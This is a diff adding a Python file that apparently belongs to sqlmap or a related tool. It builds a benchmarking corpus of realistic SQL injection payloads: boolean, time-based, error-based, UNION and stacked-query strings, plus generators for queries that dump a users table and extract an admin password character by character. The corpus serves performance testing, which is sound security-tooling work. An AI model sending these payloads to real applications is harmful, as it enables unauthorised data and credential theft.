@@ -0,0 +1,90 @@
+#!/usr/bin/env python
+
+"""
+Corpus - Realistic sqlmap payloads for benchmarking
+
+Payloads are modelled on what sqlmap actually sends for each technique
+(boolean, error, time, UNION, stacked) and grouped by length, since
+most costs in the framework scale with the number of tokens.
+
+Author: Regaan
+License: GPL v2
+"""
+
+from typing import Dict, List
+
+
+SHORT_PAYLOADS = [
+    "1 AND 1=1",
+    "1' AND 'a'='a",
+    "1 OR 2>1",
+    "1) AND (8541=8541",
+    "1 ORDER BY 5-- -",
+    "1' AND SLEEP(5)-- -",
+    "-1 OR 1=1#",
+    "1;SELECT PG_SLEEP(5)--",
+]
+
+MEDIUM_PAYLOADS = [
+    "1 AND 4586=(SELECT 4586 FROM (SELECT(SLEEP(5)))aBcD)",
+    "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71786a7171,"
+    "(SELECT (ELT(5678=5678,1))),0x716b627671,0x78))s), 8446744073709551610, "
+    "8446744073709551610)))-- -",
+    "1 AND EXTRACTVALUE(7214,CONCAT(0x5c,0x71786a7171,"
+    "(SELECT (ELT(7214=7214,1))),0x716b627671))",
+    "1' AND 1234=(SELECT COUNT(*) FROM information_schema.tables "
+    "WHERE table_schema=database() AND table_name='users')-- -",
+    "1 UNION ALL SELECT NULL,NULL,CONCAT(0x71786a7171,0x4a6b4c,0x716b627671)-- -",
+    "1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users "
+    "ORDER BY id LIMIT 0,1),1,1))>64",
+    "1 WHERE id >= 10 AND name <> 'admin' GROUP BY role HAVING COUNT(*) > 1",
+    "1'; INSERT INTO logs (msg) VALUES ('x'); SELECT * FROM users WHERE id='1",
+]
+
+
+def _union_payload(columns: int) -> str:
+    """Build a UNION ALL SELECT dumping `columns` columns, like sqlmap --dump"""
+    fields = ",".join(
+        f"IFNULL(CAST(col{i} AS CHAR),0x20)" for i in range(columns)
+    )
+    return (
+        "-1 UNION ALL SELECT CONCAT(0x71786a7171,"
+        f"CONCAT_WS(0x6a6b6c,{fields}),0x716b627671) "
+        "FROM testdb.users WHERE id > 0 AND name = 'admin' "
+        "ORDER BY id LIMIT 0,1-- -"
+    )
+
+
+def _nested_payload(depth: int) -> str:
+    """Build a boolean inference payload with `depth` nested subqueries"""
+    inner = "SELECT password FROM users WHERE username = 'admin'"
+    for i in range(depth):
+        inner = f"SELECT MID(({inner}),{i + 1},1) FROM dual WHERE {i}={i}"
+    return f"1 AND ORD(({inner}))>64"
+
+
+LONG_PAYLOADS = [
+    _union_payload(10),
+    _union_payload(50),
+    _union_payload(200),
+    _nested_payload(8),
+    _nested_payload(24),
+]
+
+
+CORPUS: Dict[str, List[str]] = {
+    'short': SHORT_PAYLOADS,
+    'medium': MEDIUM_PAYLOADS,
+    'long': LONG_PAYLOADS,
+}
+
+
+def all_payloads() -> List[str]:
+    """Get every payload in the corpus, shortest group first"""
+    return [payload for payloads in CORPUS.values() for payload in payloads]
+
+
+if __name__ == "__main__":
+    for group, payloads in CORPUS.items():
+        lengths = [len(payload) for payload in payloads]
+        print(f"{group:<8} {len(payloads):>3} payloads, {min(lengths)}-{max(lengths)} chars")